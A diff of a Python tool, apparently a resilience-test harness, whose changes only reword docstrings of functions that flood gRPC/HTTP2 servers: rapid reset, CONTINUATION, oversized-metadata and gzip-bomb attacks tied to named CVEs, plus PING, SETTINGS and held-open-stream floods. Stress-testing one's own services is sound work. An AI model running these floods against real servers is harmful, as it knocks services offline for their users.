@@ -1,4 +1,4 @@
-"""Floods by callers of gRPC, each a function. Arguments: NAME TARGET.
+"""Floods by gRPC callers, each a function. Arguments: NAME TARGET.
 
 For each line "SECONDS BATCHES_PER_SECOND" on standard input it floods so long, and prints what it did as JSON. A pace
 of 0 is as fast as it can.
@@ -42,7 +42,7 @@ BATCH = 200  # frames of one write
 
 
 class Flood:
-    """Writes batches to a connection until time or count is over, on a new one when the server has closed."""
+    """Writes batches to a connection until the time or count is reached; reconnects when the server has closed."""
 
     def __init__(self, target, seconds, pace, unread=False):
         self._target, self._unread = target, unread
@@ -66,7 +66,7 @@ class Flood:
             sent = self._connection.send(batch)
         except OSError:
             sent = False
-            time.sleep(0.01)  # the server takes no connection now
+            time.sleep(0.01)  # the server accepts no connection now
         if sent:
             self.batches += 1
         else:
@@ -84,13 +84,13 @@ class Flood:
 
 
 def resets(target, seconds, pace):
-    """Calls that are taken back at once (CVE-2023-44487)."""
+    """Calls that are reset at once (CVE-2023-44487)."""
     headers = call_headers()
     return taken_back(target, seconds, pace, lambda stream: frame(HEADERS, END_HEADERS, stream, headers))
 
 
 def whole_resets(target, seconds, pace):
-    """The same with calls that are whole, so that they reach the sidecar's own code."""
+    """The same with complete calls, which reach the sidecar's own code."""
     return taken_back(target, seconds, pace, lambda stream: call(stream, REQUEST))
 
 
@@ -104,7 +104,7 @@ def taken_back(target, seconds, pace, frames_of):
 
 
 def varint(number):
-    """As Protobuf writes it."""
+    """A Protobuf varint."""
     out = bytearray()
     while number >= 128:
         out.append(number % 128 + 128)
@@ -113,7 +113,7 @@ def varint(number):
 
 
 def strangers(target, seconds, pace):
-    """Calls each for a shop, and by a caller, that never came before."""
+    """Calls each for a new shop and by a new caller."""
     flood, stream, count = Flood(target, seconds, pace), 1, 0
     while flood.goes_on():
         batch = []
@@ -134,12 +134,12 @@ def repeated(target, seconds, pace, batch, unread=False):
 
 
 def pings(target, seconds, pace):
-    """PINGs whose answers nobody reads."""
+    """PINGs whose answers are not read."""
     return repeated(target, seconds, pace, BATCH * frame(PING, 0, 0, b"12345678"), unread=True)
 
 
 def settings(target, seconds, pace):
-    """SETTINGS whose acknowledgements nobody reads."""
+    """SETTINGS whose acknowledgements are not read."""
     return repeated(target, seconds, pace, BATCH * frame(SETTINGS), unread=True)
 
 
@@ -149,7 +149,7 @@ def acknowledgements(target, seconds, pace):
 
 
 def priorities(target, seconds, pace):
-    """Priorities of streams that are not there."""
+    """Priorities of streams that do not exist."""
     return repeated(target, seconds, pace, BATCH * frame(PRIORITY, 0, 1001, struct.pack(">IB", 0, 9)))
 
 
@@ -169,7 +169,7 @@ def empty_data(target, seconds, pace):
 
 
 def continuations(target, seconds, pace):
-    """Headers without an end: each CONTINUATION brings one more of them (CVE-2024-27316 and its kin)."""
+    """Endless headers: each CONTINUATION adds one (CVE-2024-27316 and similar ones)."""
     flood = Flood(target, seconds, pace)
     block = b"".join(header(f"x-{i}", 100 * "v") for i in range(8))
     while flood.goes_on():
@@ -180,7 +180,7 @@ def continuations(target, seconds, pace):
 
 
 def empty_continuations(target, seconds, pace):
-    """The same without a byte in any."""
+    """The same with empty frames."""
     flood = Flood(target, seconds, pace)
     while flood.goes_on():
         if flood.send(frame(HEADERS, 0, 1, call_headers())):
@@ -190,7 +190,7 @@ def empty_continuations(target, seconds, pace):
 
 
 def metadata(target, seconds, pace):
-    """A call with 20 MB of metadata (CVE-2023-33953), again and again."""
+    """Repeated calls with 20 MB of metadata (CVE-2023-33953)."""
     flood, sent = Flood(target, seconds, pace), 0
     block = call_headers() + header("x-large", 20_000_000 * b"v")
     pieces = [block[at : at + FRAME_BYTES_MAX] for at in range(0, len(block), FRAME_BYTES_MAX)]
@@ -222,7 +222,7 @@ def bomb():
 
 
 def gzip_bomb(target, seconds, pace):
-    """Messages that grow a thousandfold (CVE-2023-32732 and its kin), one after the other."""
+    """Sequential messages that grow a thousandfold when decompressed (CVE-2023-32732 and similar ones)."""
     headers = call_headers(more=[("grpc-encoding", "gzip")])
     end, sent = time.monotonic() + seconds, 0
     while time.monotonic() < end:
@@ -234,7 +234,7 @@ def gzip_bomb(target, seconds, pace):
 
 
 def half_messages(target, seconds, pace):
-    """Calls with messages of 1 MB that lack their last byte, as many as the server's windows take."""
+    """As many calls as the server's windows allow, with messages of 1 MB that lack their last byte."""
     end, taken, stream = time.monotonic() + seconds, 0, 1
     data = message(bytes(1_000_000))[:-1]
     with contextlib.ExitStack() as stack:
@@ -249,20 +249,20 @@ def half_messages(target, seconds, pace):
 
 
 def open_streams(target, seconds, pace):
-    """Calls that begin and say no more."""
+    """Calls that start and send nothing more."""
     headers = call_headers()
     return kept_streams(target, seconds, pace, lambda stream: frame(HEADERS, END_HEADERS, stream, headers))
 
 
 def watches(target, seconds, pace):
-    """Streams of the health service, which stay open by nature."""
+    """Watch streams of the health service, which stay open."""
     return kept_streams(
         target, seconds, pace, lambda stream: call(stream, b"", path="/grpc.health.v1.Health/Watch")
     )
 
 
 def kept_streams(target, seconds, pace, frames_of):
-    """Over ten connections in turn; all streams stay open until the end."""
+    """Alternates over ten connections; all streams stay open until the end."""
     with contextlib.ExitStack() as stack:
         floods = [Flood(target, seconds, pace / 10) for _ in range(10)]
         for flood in floods:
@@ -277,7 +277,7 @@ def kept_streams(target, seconds, pace, frames_of):
 
 
 def noise(target, seconds, pace):
-    """Bytes that mean nothing, after a greeting and without one."""
+    """Random bytes, with and without a connection preface."""
     count = 0
     end = time.monotonic() + seconds
     while time.monotonic() < end:
@@ -292,7 +292,7 @@ def noise(target, seconds, pace):
 
 
 def knocks(target, seconds, pace):
-    """Connections that end as soon as they are there, some with a reset."""
+    """Connections that close at once, some with a reset."""
     count, end = 0, time.monotonic() + seconds
     while time.monotonic() < end:
         try:
